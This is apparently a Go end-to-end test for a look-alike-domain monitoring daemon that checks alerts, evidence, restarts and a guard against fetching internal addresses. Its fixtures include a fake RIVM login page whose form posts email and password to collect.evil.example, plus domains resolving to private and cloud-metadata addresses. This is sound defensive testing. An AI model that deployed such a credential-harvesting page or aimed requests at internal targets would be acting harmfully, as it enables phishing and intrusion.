package engine

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/ward-health/ward/internal/alert"
	"github.com/ward-health/ward/internal/config"
	"github.com/ward-health/ward/internal/ct/cttest"
	"github.com/ward-health/ward/internal/probe"
	"github.com/ward-health/ward/internal/store"
)

// zone is an in-process DNS server on 127.0.0.1 whose records the test
// changes while it runs.
type zone struct {
	mu   sync.Mutex
	rrs  map[string][]string // owner → zone-file lines
	addr string
}

func startZone(t *testing.T, lines ...string) *zone {
	t.Helper()
	z := &zone{rrs: map[string][]string{}}
	z.set(lines...)
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(z.serve)}
	go srv.ActivateAndServe()
	t.Cleanup(func() { srv.Shutdown() })
	z.addr = pc.LocalAddr().String()
	return z
}

// set replaces the records of the owners the lines name.
func (z *zone) set(lines ...string) {
	z.mu.Lock()
	defer z.mu.Unlock()
	seen := map[string]bool{}
	for _, l := range lines {
		owner := strings.ToLower(strings.Fields(l)[0])
		if !seen[owner] {
			z.rrs[owner], seen[owner] = nil, true
		}
		z.rrs[owner] = append(z.rrs[owner], l)
	}
}

func (z *zone) serve(w dns.ResponseWriter, r *dns.Msg) {
	m := new(dns.Msg)
	m.SetReply(r)
	q := r.Question[0]
	z.mu.Lock()
	lines, ok := z.rrs[strings.ToLower(q.Name)]
	z.mu.Unlock()
	if !ok {
		m.Rcode = dns.RcodeNameError
	}
	for _, l := range lines {
		rr, err := dns.NewRR(l)
		if err == nil && (rr.Header().Rrtype == q.Qtype || rr.Header().Rrtype == dns.TypeCNAME) {
			m.Answer = append(m.Answer, rr)
		}
	}
	w.WriteMsg(m)
}

// sites serves web pages by Host; requests are counted per host.
type sites struct {
	mu    sync.Mutex
	pages map[string]string
	hits  map[string]int
}

func (s *sites) set(host, page string) { s.mu.Lock(); s.pages[host] = page; s.mu.Unlock() }

func (s *sites) hitsOf(host string) int { s.mu.Lock(); defer s.mu.Unlock(); return s.hits[host] }

func (s *sites) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	host, _, _ := strings.Cut(r.Host, ":")
	s.mu.Lock()
	s.hits[host]++
	page, ok := s.pages[host]
	s.mu.Unlock()
	if !ok || r.URL.Path != "/" {
		http.NotFound(w, r)
		return
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	io.WriteString(w, page)
}

// hook counts webhook calls by alert.
type hook struct {
	mu    sync.Mutex
	calls []alert.Alert
}

func (h *hook) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	var a alert.Alert
	if err := json.NewDecoder(r.Body).Decode(&a); err != nil {
		http.Error(w, err.Error(), 400)
		return
	}
	h.mu.Lock()
	h.calls = append(h.calls, a)
	h.mu.Unlock()
}

func (h *hook) count(subject, state string) int {
	h.mu.Lock()
	defer h.mu.Unlock()
	n := 0
	for _, a := range h.calls {
		if a.Subject == subject && (state == "" || a.State == state) {
			n++
		}
	}
	return n
}

const (
	rivmPage  = `<html><head><title>RIVM | Rijksinstituut voor Volksgezondheid en Milieu</title></head><body><h1>RIVM</h1><p>Coronavirus: informatie van het RIVM over testen en vaccinatie.</p><p>Meer nieuws op rivm.nl.</p></body></html>`
	phishPage = `<html><head><title>RIVM | Rijksinstituut voor Volksgezondheid en Milieu</title></head><body><h1>RIVM</h1><p>Log in om uw testuitslag te zien.</p><form action="https://collect.evil.example/p" method="post"><input name="email"><input type="password" name="pw"><button>Inloggen</button></form></body></html>`
	parkPage  = `<html><head><title>This domain may be for sale</title></head><body>Buy this domain. Related searches: health insurance, covid test.</body></html>`
)

// The whole daemon against real servers on loopback: a CT log, a DNS
// server, web sites and a webhook receiver.
func TestEndToEnd(t *testing.T) {
	web := &sites{pages: map[string]string{"rivm.nl": rivmPage, "rivm-coronatest.nl": phishPage, "ggd-afspraak-coronatest.nl": parkPage}, hits: map[string]int{}}
	plain := httptest.NewServer(web)
	defer plain.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(plain.URL, "http://"))
	httpPort, _ := strconv.Atoi(port)

	z := startZone(t,
		"rivm.nl. 60 IN A 127.0.0.1",
		"rivm-coronatest.nl. 60 IN A 127.0.0.1",
		"rivm-coronatest.nl. 60 IN MX 10 mail.rivm-coronatest.nl.",
		"ggd-afspraak-coronatest.nl. 60 IN A 127.0.0.1",
		"ggd-afspraak-coronatest.nl. 60 IN NS ns1.sedoparking.com.",
		// Look-alikes pointing inside: the guard must refuse them.
		"rivm-intranet.nl. 60 IN A 10.0.0.1",
		"rivm-metadata.nl. 60 IN A 169.254.169.254",
		"rivm-localhost.nl. 60 IN AAAA ::1",
		"rivm-loopback.nl. 60 IN A 127.0.0.1",
	)
	hk := &hook{}
	hookSrv := httptest.NewServer(hk)
	defer hookSrv.Close()

	log, err := cttest.New(cttest.Static)
	if err != nil {
		t.Fatal(err)
	}
	defer log.Close()
	for _, n := range []string{"www.example.com", "rivm-coronatest.nl", "ggd-afspraak-coronatest.nl"} {
		if err := log.Add([]string{n}, false); err != nil {
			t.Fatal(err)
		}
	}
	log.Publish()

	ctx := context.Background()
	st, err := store.OpenSQLite(ctx, filepath.Join(t.TempDir(), "ward.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	cfg := config.Default()
	cfg.Sources.CT.LogList = "none"
	cfg.Sources.CT.Logs = []config.CTLog{{URL: log.URL(), Key: log.Key(), Type: "static"}}
	cfg.Sources.CT.Start = "start"
	cfg.Sources.CT.Poll = 100 * time.Millisecond
	cfg.Enrichment.RateLimit = 50
	cfg.Scoring.Recheck = 500 * time.Millisecond
	cfg.Scoring.RecheckMax = time.Second
	sinkCfg := alert.Config{Name: "soc", Type: "webhook", Format: "json", URL: hookSrv.URL}
	cfg.Alerts.Sinks = []alert.Config{sinkCfg}

	newProber := func(allowPrivate bool) *probe.Prober {
		pc := probe.DefaultConfig()
		pc.Resolvers = []string{z.addr}
		pc.HTTPPort, pc.HTTPSPort = httpPort, 1 // nothing listens on 1: https fails fast
		pc.AllowPrivateTargets = allowPrivate
		pc.FetchTimeout, pc.DNSTimeout = 3*time.Second, time.Second
		p, err := probe.New(pc)
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	run := func(p *probe.Prober) (stop func()) {
		sink, err := alert.NewFromConfig(sinkCfg, nil)
		if err != nil {
			t.Fatal(err)
		}
		return start(t, cfg, Deps{Store: st, Prober: p, Sinks: map[string]alert.Sink{"soc": sink}}, nil)
	}

	stop := run(newProber(true))
	// The phishing look-alike: a finding with evidence and exactly one
	// webhook call, for its first state.
	waitFor(t, "the phishing site's alert", func() bool { return hk.count("rivm-coronatest.nl", "") >= 1 })
	waitFor(t, "the parked site's alert", func() bool { return hk.count("ggd-afspraak-coronatest.nl", "") >= 1 })
	time.Sleep(1500 * time.Millisecond) // re-checks happen; nothing changes
	if n := hk.count("rivm-coronatest.nl", ""); n != 1 || hk.count("rivm-coronatest.nl", "malicious") != 1 {
		t.Fatalf("phishing site: %d webhook calls (%+v), want one, malicious", n, hk.calls)
	}
	if n := hk.count("ggd-afspraak-coronatest.nl", "watching"); n != 1 || hk.count("ggd-afspraak-coronatest.nl", "") != 1 {
		t.Fatalf("parked site: %d calls as watching, want exactly one", n)
	}
	page, _, err := st.Findings(ctx, store.Filter{Org: "demo", Query: "rivm-coronatest"})
	if err != nil || len(page) != 1 {
		t.Fatalf("findings: %v %v", page, err)
	}
	d, err := st.Finding(ctx, "demo", page[0].ID)
	if err != nil || len(d.Evidence) == 0 || !strings.Contains(string(d.Evidence[0].Data), "collect.evil.example") {
		t.Fatalf("evidence of the phishing site: %+v %v", d.Evidence, err)
	}

	// The malicious look-alike is an indicator for the feeds, shared.
	inds, err := st.Indicators(ctx, store.IndicatorFilter{Org: "another-org", Now: time.Now()})
	if err != nil || len(inds) != 1 || inds[0].Value != "rivm-coronatest.nl" || inds[0].Source != "finding" || inds[0].Scope != "shared" {
		t.Fatalf("indicators seen by another organisation: %+v %v", inds, err)
	}

	// The parked look-alike turns into a phishing page: one more alert.
	web.set("ggd-afspraak-coronatest.nl", strings.ReplaceAll(phishPage, "RIVM", "GGD"))
	z.set("ggd-afspraak-coronatest.nl. 60 IN A 127.0.0.1")
	waitFor(t, "the parked site turning live", func() bool {
		return hk.count("ggd-afspraak-coronatest.nl", "suspicious")+hk.count("ggd-afspraak-coronatest.nl", "malicious") == 1
	})
	stop()

	// A restart sends nothing again: the re-checks find what they found.
	calls := len(hk.calls)
	stop = run(newProber(true))
	time.Sleep(2 * time.Second)
	stop()
	if got := len(hk.calls); got != calls {
		t.Errorf("%d webhook calls after the restart, want none: %+v", got-calls, hk.calls[calls:])
	}

	// Look-alikes that resolve to internal addresses are recorded and
	// alerted, but never fetched: the default prober refuses them.
	log2, err := cttest.New(cttest.Static)
	if err != nil {
		t.Fatal(err)
	}
	defer log2.Close()
	internal := []string{"rivm-intranet.nl", "rivm-metadata.nl", "rivm-localhost.nl", "rivm-loopback.nl"}
	for _, n := range internal {
		if err := log2.Add([]string{n}, false); err != nil {
			t.Fatal(err)
		}
	}
	log2.Publish()
	cfg.Sources.CT.Logs = []config.CTLog{{URL: log2.URL(), Key: log2.Key(), Type: "static"}}
	st2, err := store.OpenSQLite(ctx, filepath.Join(t.TempDir(), "ward2.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st2.Close()
	st = st2
	for _, n := range internal {
		web.set(n, phishPage)
	}
	stop = run(newProber(false))
	waitFor(t, "the internal look-alikes' alerts", func() bool {
		for _, n := range internal {
			if hk.count(n, "") != 1 {
				return false
			}
		}
		return true
	})
	stop()
	for _, n := range internal {
		if h := web.hitsOf(n); h != 0 {
			t.Errorf("%s: the guard let %d requests through", n, h)
		}
		page, _, _ := st2.Findings(ctx, store.Filter{Org: "demo", Query: n})
		if len(page) != 1 || page[0].State != store.StateWatching {
			t.Errorf("%s: %+v, want one finding, watching", n, page)
			continue
		}
		d, _ := st2.Finding(ctx, "demo", page[0].ID)
		if len(d.Evidence) == 0 || !strings.Contains(string(d.Evidence[0].Data), "refused") {
			t.Errorf("%s: the evidence does not say the fetch was refused: %s", n, evidenceText(d))
		}
	}
}

func evidenceText(d store.FindingDetail) string {
	if len(d.Evidence) == 0 {
		return "(none)"
	}
	return fmt.Sprintf("%.400s", d.Evidence[0].Data)
}
